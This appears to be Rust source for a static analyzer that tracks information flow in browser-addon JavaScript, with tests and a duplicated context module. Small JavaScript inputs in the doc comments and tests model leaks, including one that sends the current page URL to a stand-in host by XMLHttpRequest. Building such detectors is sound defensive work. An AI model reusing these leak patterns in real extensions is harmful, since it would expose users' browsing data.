            .contains("Services.scriptloader.loadSubScript"));
    }

    #[test]
    fn canonical_string_is_stable_and_discriminating() {
        let a = AnalysisConfig::default();
        let b = AnalysisConfig::default();
        assert_eq!(a.canonical_string(), b.canonical_string());
        let deeper = AnalysisConfig::default().with_context_depth(2);
        assert_ne!(a.canonical_string(), deeper.canonical_string());
        let budgeted = AnalysisConfig::default().with_step_budget(100);
        assert_ne!(a.canonical_string(), budgeted.canonical_string());
        let fewer_sources = AnalysisConfig::default().with_sources([SourceKind::Url]);
        assert_ne!(a.canonical_string(), fewer_sources.canonical_string());
        // The tier-aliasing bugfix hinges on these: every tier knob must
        // land in the canonical string, so a tier-0 cache entry or
        // function summary can never satisfy a full-sensitivity lookup.
        let triaged = AnalysisConfig::default().with_triage(true);
        assert_ne!(a.canonical_string(), triaged.canonical_string());
        assert_ne!(
            AnalysisConfig::tier0().canonical_string(),
            AnalysisConfig::tier_full().canonical_string()
        );
        // tier0 differs from a plain k=0 config in more than depth: the
        // triage knob and budget are part of its identity too.
        let bare_k0 = AnalysisConfig::default().with_context_depth(0);
        assert_ne!(
            AnalysisConfig::tier0().canonical_string(),
            bare_k0.canonical_string()
        );

        // A LadderSpec's canonical string discriminates every rung:
        // perturbing any single rung's name or any single knob of any
        // rung's config must change the ladder identity.
        let ladder = LadderSpec::standard();
        assert_eq!(
            ladder.canonical_string(),
            LadderSpec::standard().canonical_string(),
            "stable"
        );
        for i in 0..ladder.rungs.len() {
            let mut renamed = ladder.clone();
            renamed.rungs[i].name.push_str("_x");
            assert_ne!(
                ladder.canonical_string(),
                renamed.canonical_string(),
                "rung {i} name must discriminate"
            );
            let mut deeper = ladder.clone();
            deeper.rungs[i].config.context_depth += 5;
            assert_ne!(
                ladder.canonical_string(),
                deeper.canonical_string(),
                "rung {i} context depth must discriminate"
            );
            let mut rebudgeted = ladder.clone();
            rebudgeted.rungs[i].config.step_budget = Some(123_456_789);
            assert_ne!(
                ladder.canonical_string(),
                rebudgeted.canonical_string(),
                "rung {i} budget must discriminate"
            );
            let mut untriaged = ladder.clone();
            untriaged.rungs[i].config.triage = !untriaged.rungs[i].config.triage;
            assert_ne!(
                ladder.canonical_string(),
                untriaged.canonical_string(),
                "rung {i} triage knob must discriminate"
            );
        }
    }

    #[test]
    fn ladder_spec_validates() {
        assert!(LadderSpec::standard().validate().is_ok());
        let one = LadderSpec {
            rungs: vec![LadderRung {
                name: "solo".to_owned(),
                config: AnalysisConfig::default(),
            }],
        };
        assert!(one.validate().unwrap_err().contains("2 rungs"));
        let mut bad_name = LadderSpec::standard();
        bad_name.rungs[0].name = "tier 0".to_owned();
        assert!(bad_name.validate().unwrap_err().contains("metric-safe"));
        let mut dup = LadderSpec::standard();
        dup.rungs[1].name = "tier0".to_owned();
        assert!(dup.validate().unwrap_err().contains("duplicate"));
    }

    #[test]
    fn builder_setters_replace_each_knob() {
        let c = AnalysisConfig::default()
            .with_context_depth(3)
            .with_string_domain(StringDomain::ConstantOnly)
            .with_max_steps(10)
            .with_step_budget(5)
            .with_deadline(std::time::Duration::from_secs(1))
            .with_worklist(WorklistOrder::Fifo)
            .with_sources([SourceKind::Key]);
        assert_eq!(c.context_depth, 3);
        assert_eq!(c.string_domain, StringDomain::ConstantOnly);
        assert_eq!(c.max_steps, 10);
        assert_eq!(c.step_budget, Some(5));
        assert_eq!(c.deadline, Some(std::time::Duration::from_secs(1)));
        assert_eq!(c.worklist, WorklistOrder::Fifo);
        assert_eq!(c.security.sources, std::iter::once(SourceKind::Key).collect());
    }

    #[test]
    fn display_names() {
        assert_eq!(SourceKind::Url.to_string(), "url");
        assert_eq!(SinkKind::Send.to_string(), "send");
        assert_eq!(
            SourceKind::Custom("battery".into()).to_string(),
            "battery"
        );
    }
}
