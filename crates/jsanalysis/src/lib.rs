//! The base analysis: a flow- and context-sensitive abstract interpreter
//! for the addon JavaScript subset (the role JSAI plays in the paper).
//!
//! Computes the reduced product of pointer analysis, prefix-string
//! analysis (Section 5) and control-flow analysis, and produces the
//! inputs PDG construction needs (Section 3):
//!
//! - per-statement read/write sets with strong/weak qualification,
//! - the set of statements that may throw implicit exceptions,
//! - the call graph,
//! - sink records with inferred network domains, and interesting-API uses.
//!
//! # Examples
//!
//! ```
//! use jsanalysis::{analyze, AnalysisConfig};
//!
//! let ast = jsparser::parse(
//!     "var url = content.location.href;\n\
//!      var req = new XMLHttpRequest();\n\
//!      req.open('GET', 'http://api.example.com/rank?u=' + url);\n\
//!      req.send(null);",
//! )?;
//! let lowered = jsir::lower(&ast);
//! let result = analyze(&lowered, &AnalysisConfig::default());
//! // The network domain was inferred as a prefix:
//! let sink = &result.sinks[0];
//! assert!(sink.domain.known_text().unwrap().starts_with("http://api.example.com"));
//! # Ok::<(), jsparser::ParseError>(())
//! ```

#![warn(missing_docs)]

pub mod config;
pub mod context;
mod interp;
pub mod natives;
pub mod rwsets;
pub mod store;
pub mod summary;

pub use config::{
    AnalysisConfig, BudgetExhausted, BudgetKind, LadderRung, LadderSpec, SecurityConfig,
    SinkKind, SourceKind, StringDomain, WorklistOrder, DEADLINE_CHECK_INTERVAL,
    TIER0_STEP_BUDGET,
};
pub use context::{Context, CtxId, CtxTable};
pub use interp::{
    analyze, analyze_attributed, analyze_incremental, analyze_incremental_attributed,
    analyze_traced, AnalysisResult, SinkRecord,
};
pub use natives::{Environment, NativeBehavior, NativeSpec};
pub use rwsets::{AccessSet, Loc, RwSets, Strength};
pub use store::{SiteKey, SiteTable, State};
pub use summary::{
    DiskSummaryStore, IncrementalStats, MemorySummaryStore, SummaryStore, ANALYZER_VERSION,
};
