//! Call-string contexts for context sensitivity.

use jsir::StmtId;
use std::fmt;

/// A k-limited call-string context: the most recent `k` call sites on the
/// abstract call stack. `k` is configurable
/// ([`AnalysisConfig::context_depth`](crate::AnalysisConfig)); the paper's
/// base analysis (JSAI) is context-sensitive in the same style.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Default)]
pub struct Context(Vec<StmtId>);

impl Context {
    /// The empty (top-level) context.
    pub fn root() -> Context {
        Context(Vec::new())
    }

    /// Pushes a call site, truncating to the most recent `k` sites.
    pub fn push(&self, site: StmtId, k: usize) -> Context {
        if k == 0 {
            return Context::root();
        }
        let mut v = self.0.clone();
        v.push(site);
        let start = v.len().saturating_sub(k);
        Context(v.split_off(start))
    }

    /// The call sites, most recent last.
    pub fn sites(&self) -> &[StmtId] {
        &self.0
    }

    /// Depth of the retained call string.
    pub fn depth(&self) -> usize {
        self.0.len()
    }
}

impl fmt::Display for Context {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[")?;
        for (i, s) in self.0.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{s}")?;
        }
        write!(f, "]")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn push_truncates_to_k() {
        let c = Context::root();
        let c1 = c.push(StmtId(1), 2);
        let c2 = c1.push(StmtId(2), 2);
        let c3 = c2.push(StmtId(3), 2);
        assert_eq!(c3.sites(), &[StmtId(2), StmtId(3)]);
        assert_eq!(c3.depth(), 2);
    }

    #[test]
    fn k_zero_is_context_insensitive() {
        let c = Context::root().push(StmtId(7), 0);
        assert_eq!(c, Context::root());
    }

    #[test]
    fn distinct_call_sites_distinct_contexts() {
        let a = Context::root().push(StmtId(1), 1);
        let b = Context::root().push(StmtId(2), 1);
        assert_ne!(a, b);
    }

    #[test]
    fn display() {
        let c = Context::root().push(StmtId(1), 3).push(StmtId(2), 3);
        assert_eq!(c.to_string(), "[s1,s2]");
    }
}
