//! Call-string contexts for context sensitivity.

use jsir::StmtId;
use std::collections::HashMap;
use std::fmt;

/// A k-limited call-string context: the most recent `k` call sites on the
/// abstract call stack. `k` is configurable
/// ([`AnalysisConfig::context_depth`](crate::AnalysisConfig)); the paper's
/// base analysis (JSAI) is context-sensitive in the same style.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Default)]
pub struct Context(Vec<StmtId>);

impl Context {
    /// The empty (top-level) context.
    pub fn root() -> Context {
        Context(Vec::new())
    }

    /// Pushes a call site, truncating to the most recent `k` sites.
    pub fn push(&self, site: StmtId, k: usize) -> Context {
        if k == 0 {
            return Context::root();
        }
        let mut v = self.0.clone();
        v.push(site);
        let start = v.len().saturating_sub(k);
        Context(v.split_off(start))
    }

    /// The call sites, most recent last.
    pub fn sites(&self) -> &[StmtId] {
        &self.0
    }

    /// Depth of the retained call string.
    pub fn depth(&self) -> usize {
        self.0.len()
    }
}

impl fmt::Display for Context {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[")?;
        for (i, s) in self.0.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{s}")?;
        }
        write!(f, "]")
    }
}

/// Dense id of an interned [`Context`]. The interpreter keys everything
/// context-qualified -- worklist entries, abstract states, allocation-site
/// keys, return links, transition edges -- by this `Copy` id instead of
/// cloning call-string vectors, so those keys hash and compare in O(1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct CtxId(pub u32);

impl CtxId {
    /// The id of the root (top-level) context; pre-interned by
    /// [`CtxTable::new`].
    pub const ROOT: CtxId = CtxId(0);
}

impl fmt::Display for CtxId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "c{}", self.0)
    }
}

/// Interner mapping [`Context`]s to dense [`CtxId`]s. One table per
/// analysis run; id 0 is always the root context.
#[derive(Debug)]
pub struct CtxTable {
    map: HashMap<Context, CtxId>,
    ctxs: Vec<Context>,
}

impl CtxTable {
    /// A fresh table with the root context pre-interned as [`CtxId::ROOT`].
    pub fn new() -> CtxTable {
        let mut t = CtxTable {
            map: HashMap::new(),
            ctxs: Vec::new(),
        };
        let root = t.intern(Context::root());
        debug_assert_eq!(root, CtxId::ROOT);
        t
    }

    /// Interns a context.
    pub fn intern(&mut self, ctx: Context) -> CtxId {
        if let Some(&id) = self.map.get(&ctx) {
            return id;
        }
        let id = CtxId(u32::try_from(self.ctxs.len()).expect("context overflow"));
        self.ctxs.push(ctx.clone());
        self.map.insert(ctx, id);
        id
    }

    /// The k-limited push of a call site onto an interned context.
    pub fn push(&mut self, base: CtxId, site: StmtId, k: usize) -> CtxId {
        let ctx = self.get(base).push(site, k);
        self.intern(ctx)
    }

    /// The context behind an id.
    pub fn get(&self, id: CtxId) -> &Context {
        &self.ctxs[id.0 as usize]
    }

    /// Number of distinct contexts seen.
    pub fn len(&self) -> usize {
        self.ctxs.len()
    }

    /// True if only the root context exists... which never happens after
    /// `new`, so this is mostly for API symmetry.
    pub fn is_empty(&self) -> bool {
        self.ctxs.is_empty()
    }
}

impl Default for CtxTable {
    fn default() -> Self {
        CtxTable::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn push_truncates_to_k() {
        let c = Context::root();
        let c1 = c.push(StmtId(1), 2);
        let c2 = c1.push(StmtId(2), 2);
        let c3 = c2.push(StmtId(3), 2);
        assert_eq!(c3.sites(), &[StmtId(2), StmtId(3)]);
        assert_eq!(c3.depth(), 2);
    }

    #[test]
    fn k_zero_is_context_insensitive() {
        let c = Context::root().push(StmtId(7), 0);
        assert_eq!(c, Context::root());
    }

    #[test]
    fn distinct_call_sites_distinct_contexts() {
        let a = Context::root().push(StmtId(1), 1);
        let b = Context::root().push(StmtId(2), 1);
        assert_ne!(a, b);
    }

    #[test]
    fn display() {
        let c = Context::root().push(StmtId(1), 3).push(StmtId(2), 3);
        assert_eq!(c.to_string(), "[s1,s2]");
    }

    #[test]
    fn table_interns_root_as_zero() {
        let mut t = CtxTable::new();
        assert_eq!(t.intern(Context::root()), CtxId::ROOT);
        assert_eq!(t.get(CtxId::ROOT), &Context::root());
        assert_eq!(t.len(), 1);
    }

    #[test]
    fn table_push_is_k_limited_and_canonical() {
        let mut t = CtxTable::new();
        let a = t.push(CtxId::ROOT, StmtId(1), 1);
        let b = t.push(a, StmtId(2), 1);
        // k = 1 keeps only the most recent site, so pushing 2 from any
        // base lands on the same interned context.
        let b2 = t.push(CtxId::ROOT, StmtId(2), 1);
        assert_eq!(b, b2);
        assert_ne!(a, b);
        assert_eq!(t.get(b).sites(), &[StmtId(2)]);
    }
}
