//! Staged construction of the annotated control-dependence graph
//! (Section 3.3 of the paper).
//!
//! Four stages over successively pruned CFGs:
//!
//! 1. local-only CFG -> `CDG1`, annotated `local`;
//! 2. local + explicit non-local CFG -> `CDG2 - CDG1`, annotated
//!    `nonlocexp`;
//! 3. full CFG (minus uncaught-exception edges, which the paper omits) ->
//!    `CDG3 - CDG2 - CDG1`, annotated `nonlocimp`;
//! 4. edges whose source lies on a CFG cycle are promoted to `ctrl^amp`.
//!
//! Interprocedural control dependence is SDG-style: every callee entry is
//! control dependent on its call sites (a call executes its callee exactly
//! when the call itself executes, so these edges are annotated `local`);
//! statements unconditionally executed within the callee inherit the
//! dependence transitively through the callee's entry.

use crate::annotation::{Annotation, CtrlKind};
use crate::postdom::control_dependence;
use crate::supergraph::SuperGraph;
use jsanalysis::AnalysisResult;
use jsir::{EdgeKind, Lowered, StmtId};
use std::collections::BTreeSet;

/// A control-dependence edge with its annotation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct CtrlDep {
    /// The controlling statement (branch, throw source, call site, ...).
    pub from: StmtId,
    /// The controlled statement.
    pub to: StmtId,
    /// Which control kind produced the edge.
    pub kind: CtrlKind,
    /// Amplified (source on a CFG cycle)?
    pub amp: bool,
}

impl CtrlDep {
    /// The PDG annotation of this edge.
    pub fn annotation(&self) -> Annotation {
        Annotation::Ctrl {
            kind: self.kind,
            amp: self.amp,
        }
    }
}

/// Builds the annotated CDG.
pub fn build_cdg(
    lowered: &Lowered,
    analysis: &AnalysisResult,
    sg: &SuperGraph,
) -> BTreeSet<CtrlDep> {
    let mut out = BTreeSet::new();
    // Augment every function with a virtual entry -> exit edge so that
    // unconditionally-executed statements become control dependent on the
    // function entry (and, transitively through the call edges below, on
    // their call sites).
    let mut cfg = sg.cfg.clone();
    for func in &lowered.program.funcs {
        cfg.add_edge(func.entry, func.exit, EdgeKind::Virtual);
    }
    let cfg = &cfg;

    for func in &lowered.program.funcs {
        let fg = SuperGraph::func_graph(lowered, func.id);

        // Stage 1: local control flow only.
        let cdg1 = control_dependence(cfg, &fg, |k: EdgeKind| k.is_local());
        // Stage 2: + explicit non-local edges.
        let cdg2 = control_dependence(cfg, &fg, |k: EdgeKind| {
            k.is_local() || k.is_nonlocal_explicit()
        });
        // Stage 3: everything except uncaught exceptions.
        let cdg3 = control_dependence(cfg, &fg, |k: EdgeKind| k != EdgeKind::Uncaught);

        for &(u, w) in &cdg1 {
            out.insert(CtrlDep {
                from: u,
                to: w,
                kind: CtrlKind::Local,
                amp: false,
            });
        }
        for &(u, w) in cdg2.difference(&cdg1) {
            out.insert(CtrlDep {
                from: u,
                to: w,
                kind: CtrlKind::NonLocExp,
                amp: false,
            });
        }
        let stage12: BTreeSet<(StmtId, StmtId)> =
            cdg1.union(&cdg2).copied().collect();
        for &(u, w) in cdg3.difference(&stage12) {
            out.insert(CtrlDep {
                from: u,
                to: w,
                kind: CtrlKind::NonLocImp,
                amp: false,
            });
        }
    }

    // SDG-style call dependence: callee entry depends on the call site.
    for &(call, entry) in &sg.call_edges {
        out.insert(CtrlDep {
            from: call,
            to: entry,
            kind: CtrlKind::Local,
            amp: false,
        });
    }
    let _ = analysis;

    // Stage 4: amplification -- promote edges whose source is on a cycle.
    out.into_iter()
        .map(|mut e| {
            e.amp = sg.in_cycle(e.from);
            e
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsanalysis::{analyze, AnalysisConfig};
    use jsir::{IrStmtKind, Lowered, Operand};

    fn run(src: &str) -> (Lowered, BTreeSet<CtrlDep>) {
        let ast = jsparser::parse(src).unwrap();
        let lowered =
            jsir::lower_with_options(&ast, &jsir::LowerOptions { event_loop: false });
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let sg = SuperGraph::build(&lowered, &analysis);
        let cdg = build_cdg(&lowered, &analysis, &sg);
        (lowered, cdg)
    }

    fn stmts(lowered: &Lowered, pred: impl Fn(&IrStmtKind) -> bool) -> Vec<StmtId> {
        lowered
            .program
            .stmts
            .iter()
            .filter(|s| pred(&s.kind))
            .map(|s| s.id)
            .collect()
    }

    #[test]
    fn if_branch_local_dependence() {
        let (lowered, cdg) = run("if (Math.random() < 0.5) { mark_global = 1; }");
        let branch = stmts(&lowered, |k| matches!(k, IrStmtKind::Branch { .. }))[0];
        let store = stmts(&lowered, |k| {
            matches!(k, IrStmtKind::Copy { dst: jsir::Place::Global(g), .. } if g == "mark_global")
        })[0];
        let e = cdg
            .iter()
            .find(|e| e.from == branch && e.to == store)
            .expect("store control-dependent on branch");
        assert_eq!(e.kind, CtrlKind::Local);
        assert!(!e.amp);
    }

    #[test]
    fn loop_body_amplified() {
        let (lowered, cdg) = run(
            "while (Math.random() < 0.9) { tick_global = 1; }",
        );
        let store = stmts(&lowered, |k| {
            matches!(k, IrStmtKind::Copy { dst: jsir::Place::Global(g), .. } if g == "tick_global")
        })[0];
        let e = cdg
            .iter()
            .find(|e| e.to == store && e.kind == CtrlKind::Local)
            .expect("loop body control dependence");
        assert!(e.amp, "loop body edges are amplified");
    }

    #[test]
    fn throw_gives_nonlocexp() {
        // Paper Figure 1 lines 13-17: line 16 is control dependent on line
        // 14 through the explicit throw.
        let (lowered, cdg) = run(
            r#"
try {
  if (doc_global != "hush-hush.com")
    throw "irrelevant";
  send_global(null);
} catch (x) {}
"#,
        );
        let branch = stmts(&lowered, |k| matches!(k, IrStmtKind::Branch { .. }))[0];
        let send_call = *stmts(&lowered, |k| {
            matches!(k, IrStmtKind::Call { callee: Operand::Place(jsir::Place::Global(g)), .. } if g == "send_global")
        })
        .first()
        .expect("send call");
        let e = cdg
            .iter()
            .find(|e| e.from == branch && e.to == send_call)
            .expect("send control dependent on branch via throw");
        assert_eq!(e.kind, CtrlKind::NonLocExp);
    }

    #[test]
    fn implicit_exception_gives_nonlocimp() {
        // Paper Figure 1 lines 18-23: obj may be null/undefined, so the
        // store may implicitly throw, making the following send control
        // dependent on the branch with a nonlocimp edge.
        let (lowered, cdg) = run(
            r#"
var obj;
if (Math.random() < 0.5) { obj = {}; }
try {
  if (doc_global != "mystic.com")
    obj.prop = 1;
  send_global(null);
} catch (x) {}
"#,
        );
        let sends = stmts(&lowered, |k| {
            matches!(k, IrStmtKind::Call { callee: Operand::Place(jsir::Place::Global(g)), .. } if g == "send_global")
        });
        let send_call = sends[0];
        let has_imp = cdg
            .iter()
            .any(|e| e.to == send_call && e.kind == CtrlKind::NonLocImp);
        assert!(
            has_imp,
            "send must be nonlocimp-dependent on the store's implicit throw: {:?}",
            cdg.iter().filter(|e| e.to == send_call).collect::<Vec<_>>()
        );
    }

    #[test]
    fn call_dependence_is_local() {
        let (lowered, cdg) = run("function f() { inner_global = 1; } f();");
        let f = lowered.program.funcs.iter().find(|f| f.name == "f").unwrap();
        let call = stmts(&lowered, |k| matches!(k, IrStmtKind::Call { .. }))[0];
        let e = cdg
            .iter()
            .find(|e| e.from == call && e.to == f.entry)
            .expect("callee entry depends on call site");
        assert_eq!(e.kind, CtrlKind::Local);
    }

    #[test]
    fn straight_line_depends_only_on_entry() {
        let (lowered, cdg) = run("var a = 1; var b = a;");
        let entry = lowered.program.top_level().entry;
        let copies = stmts(&lowered, |k| matches!(k, IrStmtKind::Copy { .. }));
        for c in copies {
            let deps: Vec<_> = cdg.iter().filter(|e| e.to == c).collect();
            assert!(
                deps.iter().all(|e| e.from == entry),
                "straight-line code depends only on the function entry: {deps:?}"
            );
            assert!(!deps.is_empty(), "SDG entry dependence expected");
        }
    }
}
