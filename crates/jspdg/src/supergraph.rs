//! The interprocedural supergraph: the CFG augmented with implicit-throw
//! edges, call edges (call site to callee entry), and return edges (callee
//! exit back to the call's continuations). The DDG's reaching-definitions
//! pass and the amplification (cycle) analysis both run over it.

use jsanalysis::AnalysisResult;
use jsir::{Cfg, EdgeKind, IrFuncId, Lowered, StmtId};
use std::collections::{BTreeMap, BTreeSet};

/// The interprocedural supergraph.
#[derive(Debug)]
pub struct SuperGraph {
    /// The intraprocedural CFG including implicit-throw edges.
    pub cfg: Cfg,
    /// Flattened forward adjacency (data can flow along these edges);
    /// excludes `Uncaught` edges (termination). Includes an extra
    /// callee-exit -> call-site edge so that return-value reads recorded
    /// on the call statement see definitions made inside the callee.
    succs: BTreeMap<StmtId, Vec<StmtId>>,
    /// Call edges: call statement -> callee entry.
    pub call_edges: BTreeSet<(StmtId, StmtId)>,
    /// Statements lying on a (interprocedural) cycle.
    cycles: BTreeSet<StmtId>,
}

impl SuperGraph {
    /// Builds the supergraph from lowering output and the base analysis.
    pub fn build(lowered: &Lowered, analysis: &AnalysisResult) -> SuperGraph {
        let mut cfg = lowered.cfg.clone();
        jsir::add_implicit_throw_edges(&lowered.program, &mut cfg, &analysis.may_throw);

        fn add(map: &mut BTreeMap<StmtId, Vec<StmtId>>, from: StmtId, to: StmtId) {
            let list = map.entry(from).or_default();
            if !list.contains(&to) {
                list.push(to);
            }
        }
        let mut succs: BTreeMap<StmtId, Vec<StmtId>> = BTreeMap::new();
        for e in cfg.edges() {
            if e.kind != EdgeKind::Uncaught {
                add(&mut succs, e.from, e.to);
            }
        }
        // Call and return edges. For cycle detection the return edge goes
        // to the call's continuations (execution order); the flow graph
        // additionally routes the exit back to the call statement itself,
        // because the call is where the return-value read is recorded.
        let mut call_edges = BTreeSet::new();
        let mut cycle_succs = succs.clone();
        for (&call, targets) in &analysis.call_targets {
            let continuations: Vec<StmtId> = cfg
                .succs(call)
                .iter()
                .filter(|(_, k)| *k != EdgeKind::Uncaught)
                .map(|(t, _)| *t)
                .collect();
            for fid in targets {
                let f: &jsir::IrFunc = lowered.program.func(*fid);
                add(&mut succs, call, f.entry);
                call_edges.insert((call, f.entry));
                for &c in &continuations {
                    add(&mut succs, f.exit, c);
                }
                add(&mut succs, f.exit, call);
                // Cycle graph: no exit -> call back edge.
                add(&mut cycle_succs, call, f.entry);
                for &c in &continuations {
                    add(&mut cycle_succs, f.exit, c);
                }
            }
        }

        // Amplification cycles come from the base analysis's
        // context-qualified transition graph (avoiding the spurious cycles
        // a context-insensitive return edge would create when one function
        // is called from two sites). The context-insensitive cycle graph
        // is kept as a fallback for callers without analysis transitions.
        let cycles = if analysis.cyclic_stmts.is_empty() && analysis.reachable.is_empty() {
            cycle_nodes(&cycle_succs)
        } else {
            let _ = &cycle_succs;
            analysis.cyclic_stmts.clone()
        };

        SuperGraph {
            cfg,
            succs,
            call_edges,
            cycles,
        }
    }

    /// Successors along which data can flow.
    pub fn succs(&self, s: StmtId) -> &[StmtId] {
        self.succs.get(&s).map(Vec::as_slice).unwrap_or(&[])
    }

    /// True if the statement lies on an interprocedural cycle (loops,
    /// recursion, or the event loop). These are the paper's *amplified*
    /// control-edge sources.
    pub fn in_cycle(&self, s: StmtId) -> bool {
        self.cycles.contains(&s)
    }

    /// All nodes that appear in the graph.
    pub fn nodes(&self) -> impl Iterator<Item = StmtId> + '_ {
        self.succs.keys().copied()
    }

    /// The per-function node/entry/exit view used by CDG construction.
    pub fn func_graph(lowered: &Lowered, func: IrFuncId) -> crate::postdom::FuncGraph {
        let f = lowered.program.func(func);
        crate::postdom::FuncGraph {
            nodes: f.stmts.clone(),
            entry: f.entry,
            exit: f.exit,
        }
    }
}

/// Tarjan SCC over an adjacency map; returns nodes in non-trivial SCCs or
/// with self loops.
fn cycle_nodes(succs: &BTreeMap<StmtId, Vec<StmtId>>) -> BTreeSet<StmtId> {
    // Collect all nodes.
    let mut nodes: BTreeSet<StmtId> = succs.keys().copied().collect();
    for list in succs.values() {
        nodes.extend(list.iter().copied());
    }
    let idx_of: BTreeMap<StmtId, usize> = nodes.iter().copied().zip(0..).collect();
    let node_vec: Vec<StmtId> = nodes.iter().copied().collect();
    let n = node_vec.len();
    let adj: Vec<Vec<usize>> = node_vec
        .iter()
        .map(|s| {
            succs
                .get(s)
                .map(|l| l.iter().map(|t| idx_of[t]).collect())
                .unwrap_or_default()
        })
        .collect();

    let mut index = vec![usize::MAX; n];
    let mut low = vec![0usize; n];
    let mut on_stack = vec![false; n];
    let mut stack = Vec::new();
    let mut next = 0usize;
    let mut out = BTreeSet::new();

    #[derive(Clone, Copy)]
    struct Frame {
        v: usize,
        pos: usize,
    }
    for root in 0..n {
        if index[root] != usize::MAX {
            continue;
        }
        let mut call = vec![Frame { v: root, pos: 0 }];
        while let Some(fr) = call.last_mut() {
            let v = fr.v;
            if fr.pos == 0 {
                index[v] = next;
                low[v] = next;
                next += 1;
                stack.push(v);
                on_stack[v] = true;
            }
            if fr.pos < adj[v].len() {
                let w = adj[v][fr.pos];
                fr.pos += 1;
                if index[w] == usize::MAX {
                    call.push(Frame { v: w, pos: 0 });
                } else if on_stack[w] {
                    low[v] = low[v].min(index[w]);
                }
            } else {
                call.pop();
                if let Some(p) = call.last() {
                    low[p.v] = low[p.v].min(low[v]);
                }
                if low[v] == index[v] {
                    let mut comp = Vec::new();
                    loop {
                        let w = stack.pop().expect("scc stack");
                        on_stack[w] = false;
                        comp.push(w);
                        if w == v {
                            break;
                        }
                    }
                    let self_loop = adj[v].contains(&v);
                    if comp.len() > 1 || self_loop {
                        out.extend(comp.into_iter().map(|i| node_vec[i]));
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsanalysis::{analyze, AnalysisConfig};

    fn build(src: &str) -> (Lowered, AnalysisResult, SuperGraph) {
        let ast = jsparser::parse(src).unwrap();
        let lowered = jsir::lower(&ast);
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let sg = SuperGraph::build(&lowered, &analysis);
        (lowered, analysis, sg)
    }

    #[test]
    fn call_edges_connect_functions() {
        let (lowered, _, sg) = build("function f() { return 1; } f();");
        let f = lowered.program.funcs.iter().find(|f| f.name == "f").unwrap();
        assert!(sg.call_edges.iter().any(|(_, e)| *e == f.entry));
        // And the exit flows back to the caller's continuation.
        assert!(!sg.succs(f.exit).is_empty());
    }

    #[test]
    fn event_loop_makes_handlers_cyclic() {
        let (lowered, _, sg) = build(
            "function h() { tick = 1; } window.addEventListener('load', h, false);",
        );
        let h = lowered.program.funcs.iter().find(|f| f.name == "h").unwrap();
        assert!(
            sg.in_cycle(h.entry),
            "event handlers run inside the dispatch loop"
        );
    }

    #[test]
    fn recursion_is_cyclic() {
        let (lowered, _, sg) = build("function r(n) { if (n) r(n - 1); } r(3);");
        let r = lowered.program.funcs.iter().find(|f| f.name == "r").unwrap();
        assert!(sg.in_cycle(r.entry));
    }

    #[test]
    fn straight_line_not_cyclic() {
        let ast = jsparser::parse("var a = 1; var b = a;").unwrap();
        let lowered = jsir::lower_with_options(
            &ast,
            &jsir::LowerOptions { event_loop: false },
        );
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let sg = SuperGraph::build(&lowered, &analysis);
        for s in &lowered.program.top_level().stmts {
            assert!(!sg.in_cycle(*s));
        }
    }

    #[test]
    fn implicit_throw_edges_included() {
        let (_, _, sg) = build("try { maybe.prop = 1; } catch (e) { h(); }");
        assert!(sg
            .cfg
            .edges()
            .any(|e| e.kind == EdgeKind::ThrowImplicit));
    }
}
