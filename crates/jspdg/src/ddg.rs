//! Annotated data-dependence graph construction (Section 3.2).
//!
//! A reaching-definitions pass over the interprocedural supergraph
//! computes, for each statement, which definitions may reach it and
//! whether any overlapping write intervened ("pristine" facts). From this
//! the paper's two conditions fall out directly:
//!
//! - `datastrong v1 -> v2`: `v2` definitely reads the single concrete
//!   location `v1` definitely writes (both strong, identical location),
//!   and on **no** path between them is the location possibly overwritten
//!   (the fact is still pristine on every path);
//! - `dataweak v1 -> v2`: the write/read sets overlap (under the
//!   `e`-intersection on abstract property names), the definition
//!   survives on at least one path (strong overwrites kill per-path), and
//!   the edge is not strong.

use crate::supergraph::SuperGraph;
use jsanalysis::{AnalysisResult, Loc, Strength};
use jsir::StmtId;
use std::collections::{BTreeMap, BTreeSet, HashMap, VecDeque};

/// A data-dependence edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct DataDep {
    /// The defining statement.
    pub from: StmtId,
    /// The reading statement.
    pub to: StmtId,
    /// True for `datastrong`.
    pub strong: bool,
}

/// Dense interning of locations for the dataflow facts.
struct LocTable {
    locs: Vec<Loc>,
    index: HashMap<Loc, u32>,
    /// overlap cache
    overlap: HashMap<(u32, u32), bool>,
    /// Recency aliasing (mru site <-> aged twin): aliased sites denote
    /// instances of the same allocation site, so their locations overlap
    /// (weakly) for cross-instance flows.
    aliases: BTreeMap<jsdomains::AllocSite, jsdomains::AllocSite>,
}

impl LocTable {
    fn new(aliases: BTreeMap<jsdomains::AllocSite, jsdomains::AllocSite>) -> LocTable {
        LocTable {
            locs: Vec::new(),
            index: HashMap::new(),
            overlap: HashMap::new(),
            aliases,
        }
    }

    /// Canonical representative of a site under recency aliasing.
    fn canonical(&self, s: jsdomains::AllocSite) -> jsdomains::AllocSite {
        self.aliases.get(&s).copied().unwrap_or(s)
    }

    fn intern(&mut self, loc: &Loc) -> u32 {
        if let Some(&i) = self.index.get(loc) {
            return i;
        }
        let i = self.locs.len() as u32;
        self.locs.push(loc.clone());
        self.index.insert(loc.clone(), i);
        i
    }

    fn overlaps(&mut self, a: u32, b: u32) -> bool {
        if a == b {
            return true;
        }
        let key = if a < b { (a, b) } else { (b, a) };
